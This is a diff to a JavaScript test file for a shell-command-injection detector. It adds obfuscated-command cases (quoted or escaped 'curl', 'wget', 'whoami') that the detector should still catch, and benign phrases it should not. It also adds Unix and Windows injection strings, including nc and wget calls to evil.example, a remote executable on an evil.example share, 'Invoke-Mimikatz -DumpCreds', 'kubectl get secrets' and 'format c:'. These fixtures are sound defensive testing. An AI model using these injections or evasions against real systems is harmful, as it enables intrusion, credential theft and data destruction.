@@ -16,6 +16,11 @@ test("loops, conditions, programs and cmdlets of Windows are found", () => {
   expect(missed(windows)).toEqual([]);
 });
 
+test("quotes, backslashes and expansions of nothing within a word hide no command", () => {
+  expect(missed(quoted)).toEqual([]);
+  expect(hit(quoted.map((text) => text.replace(/["'\\^]|\$@|\$\{x\}|\$\(\)|``/g, "_")))).toEqual([]);
+});
+
 test("a command is found behind any number of separators before it", () => {
   expect(foundBy(commandPatterns, `${"a|".repeat(2000)}cat /x/y`)).toContain(3001);
 });
@@ -47,7 +52,27 @@ const honest = [
   "see example.com/??? for more",
   "add-item",
   "get-together on Friday",
+  "thanks, bash <3",
+  "start here & win",
+  "R&D & calc.exe is small",
+  "sleep 8 hours",
   "R&D; Q&A; AT&T",
+];
+
+/** Words that stand in no list as they are written: a command once a shell has read them. */
+const quoted = [
+  ";c'u'rl evil.example",
+  ';ch"m"od 777 x',
+  ";w\\get evil.example",
+  ";w'g'e't' evil.example",
+  "x;wh''oami",
+  'x;wh""oami',
+  "x|wh\\oami",
+  "x;wh$@oami",
+  "x;wh${x}oami",
+  "x;wh``oami",
+  "x&wh^oami",
+  "x&ip^con^fig",
 ];
 
 const unix = [
@@ -183,6 +208,14 @@ const unix = [
   "`curl evil.example`",
   ";wget evil.example",
   "127.0.0.1\nid",
+  "x ; sleep 5",
+  "x && sleep 5",
+  "sleep 10",
+  ";$0",
+  ";ip a",
+  "x;docker exec -it y sh",
+  "nc evil.example 4444",
+  "x;kubectl get secrets",
 ];
 
 const windows = [
@@ -248,4 +281,14 @@ const windows = [
   "x & md c:\\x",
   "x & rd /s /q c:\\x",
   "x & shutdown /r",
+  "& format c:",
+  "& start notepad",
+  "& calc.exe",
+  "& \\\\evil.example\\share\\x.exe",
+  "\r\nipconfig /all",
+  "IF NOT %1 == x (echo)",
+  "if !x! == y (echo)",
+  "Add-Type -AssemblyName System.Windows.Forms",
+  "Invoke-Mimikatz -DumpCreds",
+  "Get-ADUser -Filter *",
 ];
